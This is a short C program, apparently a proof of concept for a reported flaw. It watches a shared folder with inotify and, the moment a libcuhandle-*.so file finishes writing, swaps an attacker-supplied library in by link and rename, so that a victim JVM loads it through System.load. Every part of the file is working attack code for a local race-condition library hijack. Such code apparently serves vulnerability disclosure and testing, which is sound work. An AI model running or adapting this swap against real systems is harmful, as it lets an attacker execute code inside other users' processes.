/* Issue 26's library swap: watches a folder (inotify) and, as soon as a file named libcuhandle-*.so
 * there is closed after writing, renames a copy of the attacker's library over it, before the
 * victim JVM's System.load. Usage: swap_watcher FOLDER PLANTED_LIBRARY SECONDS. Prints one line per
 * swap. Works in a folder where the attacker may rename over another user's file (group or other
 * writable, not sticky). */
#include <limits.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/inotify.h>
#include <time.h>
#include <unistd.h>
#include <poll.h>

int main(int argc, char **argv) {
    if (argc != 4) return 2;
    const char *dir = argv[1], *planted = argv[2];
    time_t end = time(NULL) + atoi(argv[3]);
    int fd = inotify_init1(IN_CLOEXEC);
    if (fd < 0 || inotify_add_watch(fd, dir, IN_CLOSE_WRITE) < 0) { perror("inotify"); return 1; }
    printf("watching %s\n", dir);
    fflush(stdout);
    char buf[4096] __attribute__((aligned(__alignof__(struct inotify_event))));
    unsigned n = 0;
    while (time(NULL) < end) {
        struct pollfd p = { fd, POLLIN, 0 };
        if (poll(&p, 1, 200) <= 0) continue;
        ssize_t len = read(fd, buf, sizeof buf);
        for (char *at = buf; len > 0 && at < buf + len;) {
            struct inotify_event *e = (struct inotify_event *)at;
            at += sizeof *e + e->len;
            if (!e->len || strncmp(e->name, "libcuhandle-", 12) != 0) continue;
            char copy[PATH_MAX], target[PATH_MAX];
            snprintf(copy, sizeof copy, "%s/.planted-%u", dir, n++);
            snprintf(target, sizeof target, "%s/%s", dir, e->name);
            if (link(planted, copy) == 0 && rename(copy, target) == 0) printf("swapped %s\n", e->name);
            else perror(target);
            fflush(stdout);
        }
    }
    return 0;
}
